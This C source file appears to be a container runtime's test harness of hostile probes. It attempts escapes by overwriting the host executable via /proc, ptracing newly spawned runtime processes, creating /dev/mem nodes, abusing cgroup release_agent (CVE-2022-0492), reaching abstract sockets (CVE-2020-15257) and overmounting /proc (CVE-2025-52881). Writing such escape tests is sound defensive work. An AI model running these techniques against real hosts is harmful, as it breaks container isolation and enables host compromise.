/* Files, descriptors, processes: ways out by a path. */
#include "tests/priv/escapes/hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#define WRITES     1000
#define HUNT_AHEAD 40 /* processes that came while it looked elsewhere */

/* A program of the host is known by descriptor argv[0]: everything that would change it. */
void verb_exe(int argc, char **argv)
{
	char path[64];
	struct stat st = { 0 };
	int wrote = 0;

	(void)argc;
	snprintf(path, sizeof(path), "/proc/self/fd/%s", argv[0]);
	if (stat(path, &st) == 0)
		printf("exe is %lu\n", (unsigned long)st.st_ino);
	say("exe chmod", chmod(path, 0777));
	say("exe truncate", truncate(path, 0));
	say("exe setxattr", setxattr(path, "user.x", "y", 1, 0));
	say("exe utimes", utimensat(AT_FDCWD, path, NULL, 0));
	/* The real attack waits until nobody runs the file. */
	for (int i = 0; i < WRITES; i++)
		wrote += open(path, O_WRONLY | O_CLOEXEC) >= 0;
	say("exe write", wrote ? 0 : -1);
	printf("exe written %d\n", wrote);
}

void verb_fds(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (int fd = 0; fd < 1024; fd++) {
		char path[64];
		char link[PATH_MAX] = "";

		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		if (readlink(path, link, sizeof(link) - 1) < 0)
			snprintf(link, sizeof(link), "unreadable");
		printf("fd %d %s\n", fd, link);
	}
	fflush(stdout);
}

struct prey {
	int refused; /* it was seen before it ran the image's program */
	int breach;
};

/* Whether what 'part' of process 'pid' shows is not the container's own. */
static int peek(int pid, const char *part, char *link)
{
	char path[64];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, part);
	n = readlink(path, link, PATH_MAX - 1);
	link[n < 0 ? 0 : n] = '\0';
	return n < 0 ? -1 : strncmp(link, "/bin/", 5) != 0;
}

static void take(int pid, const char *how, const char *what)
{
	printf("breach %d %s %s\n", pid, how, what);
	fflush(stdout);
}

/* One look at a process. 1 when there is nothing more to see. */
static int look(int pid, struct prey *prey)
{
	char link[PATH_MAX];
	char path[64];
	int n = peek(pid, "exe", link);
	int fd;

	if (n == 0)
		return 1;
	if (n < 0 && errno == ENOENT)
		return prey->refused;
	if (n > 0) {
		take(pid, "exe", link);
		prey->breach++;
		return 1;
	}
	prey->refused = 1;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
		if (peek(pid, "exe", link) > 0) {
			take(pid, "ptrace", link);
			prey->breach++;
		}
		/* It is only let go of when it has stopped. */
		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, NULL, __WALL);
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return 0;
	take(pid, "descriptor", "3");
	prey->breach++;
	close(fd);
	return 1;
}

/* From process argv[0] on: whatever a newcomer shows before it is the image's own program. */
void verb_hunt(int argc, char **argv)
{
	int next = atoi(argv[0]);
	int seen = 0;

	(void)argc;
	printf("hunting\n");
	fflush(stdout);
	for (int pid = next;; pid = pid < next + HUNT_AHEAD ? pid + 1 : next) {
		struct prey prey = { 0 };

		/* Whoever is there is looked at until it ends or runs what it came for. */
		while (!look(pid, &prey) && prey.refused)
			;
		if (!prey.refused)
			continue;
		next = pid + 1;
		if (++seen % 10 == 0) {
			printf("refused %d\n", seen);
			fflush(stdout);
		}
	}
}

void verb_swap(int argc, char **argv)
{
	(void)argc;
	printf("swapping\n");
	fflush(stdout);
	for (;;)
		renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
}

void verb_open(int argc, char **argv)
{
	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		int write_errno = fd < 0 ? errno : 0;
		char byte;
		ssize_t n;

		if (fd >= 0)
			close(fd);
		fd = open(argv[i], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
		n = fd < 0 ? -1 : read(fd, &byte, 1);
		printf("%s write %d read %d", argv[i], write_errno, n < 0 ? errno : 0);
		printf(" %s\n", n > 0 ? "data" : n == 0 ? "empty" : "error");
		if (fd >= 0)
			close(fd);
	}
	fflush(stdout);
}

void verb_device(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	say("mknod disk", mknod("/tmp/disk", S_IFBLK | 0666, makedev(8, 0)));
	say("open disk", open("/tmp/disk", O_RDONLY | O_CLOEXEC));
	say("mknod mem", mknod("/dev/mem", S_IFCHR | 0666, makedev(1, 1)));
	say("open mem", open("/dev/mem", O_RDONLY | O_CLOEXEC));
	say("mknod null", mknod("/tmp/null", S_IFCHR | 0666, makedev(1, 3)));
	say("open null", open("/tmp/null", O_RDONLY | O_CLOEXEC));
}

/* Files that could be opened for writing are named, the others counted by their error. */
static int counts[256];

static int cgroup_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	int fd;

	(void)ftw;
	(void)st;
	if (flag != FTW_F)
		return 0;
	fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd >= 0) {
		printf("writable %s\n", path);
		close(fd);
	}
	counts[fd < 0 && errno < 256 ? errno : 0]++;
	return 0;
}

void verb_cgroup(int argc, char **argv)
{
	(void)argc;
	nftw(argv[0], cgroup_one, 32, FTW_PHYS);
	for (int i = 0; i < 256; i++) {
		if (counts[i])
			printf("errno %d: %d files\n", i, counts[i]);
	}
	say("mkdir", mkdir("/sys/fs/cgroup/memory/mine", 0755));
}

static void try_release_agent(const char *when)
{
	char name[64];

	snprintf(name, sizeof(name), "mount cgroup %s", when);
	say(name, mount("cgroup", "/tmp", "cgroup", 0, "memory"));
	snprintf(name, sizeof(name), "mount option %s", when);
	say(name, mount("cgroup", "/data", "cgroup", 0, "memory,release_agent=/bin/hostile"));
	snprintf(name, sizeof(name), "mount cgroup2 %s", when);
	say(name, mount("cgroup2", "/tmp", "cgroup2", 0, NULL));
	snprintf(name, sizeof(name), "release_agent %s", when);
	say(name, open("/tmp/release_agent", O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
	snprintf(name, sizeof(name), "notify %s", when);
	say(name, open("/tmp/notify_on_release", O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
	snprintf(name, sizeof(name), "group %s", when);
	say(name, mkdir("/tmp/group", 0755));
}

/* CVE-2022-0492: a hierarchy of one's own whose release_agent the host's root runs. */
void verb_release_agent(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	say("release_agent shown",
		open("/sys/fs/cgroup/memory/release_agent", O_WRONLY | O_CLOEXEC));
	say("notify shown", open("/sys/fs/cgroup/memory/notify_on_release", O_WRONLY | O_CLOEXEC));
	try_release_agent("at once");
	say("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
	try_release_agent("after unshare");
}

/* CVE-2020-15257: every socket that /proc/net/unix names with '@'. */
void verb_abstract(int argc, char **argv)
{
	FILE *file = fopen("/proc/net/unix", "re");
	char line[512];
	int n = 0;

	(void)argc;
	(void)argv;
	while (file && fgets(line, sizeof(line), file)) {
		struct sockaddr_un addr = { .sun_family = AF_UNIX };
		const char *at = strchr(line, '@');
		size_t len = at ? strcspn(at, "\n") : 0;
		int fd;

		if (!at || len > sizeof(addr.sun_path))
			continue;
		n++;
		fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
		memcpy(addr.sun_path, at, len);
		addr.sun_path[0] = '\0';
		say(at, connect(fd, (struct sockaddr *)&addr,
				(socklen_t)(offsetof(struct sockaddr_un, sun_path) + len)));
		close(fd);
	}
	printf("abstract %d\n", file ? n : -1);
}

void verb_ids(int argc, char **argv)
{
	uid_t real, effective, saved;
	FILE *file = fopen("/proc/self/status", "re");
	char line[256];

	(void)argc;
	(void)argv;
	if (getresuid(&real, &effective, &saved) == 0)
		printf("uid %u %u %u\n", real, effective, saved);
	while (file && fgets(line, sizeof(line), file)) {
		if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNew", 5) == 0)
			printf("%s", line);
	}
}

/*
 * CVE-2025-52881: a /proc of one's own making, in which every process's own directory is argv[0]; a
 * process of the runtime that joins and writes its own settings by path would write there.
 */
void verb_proc_over(int argc, char **argv)
{
	(void)argc;
	say("mount", mount("none", "/proc", "tmpfs", 0, NULL));
	say("self", symlink(argv[0], "/proc/self"));
	say("thread-self", symlink(argv[0], "/proc/thread-self"));
}
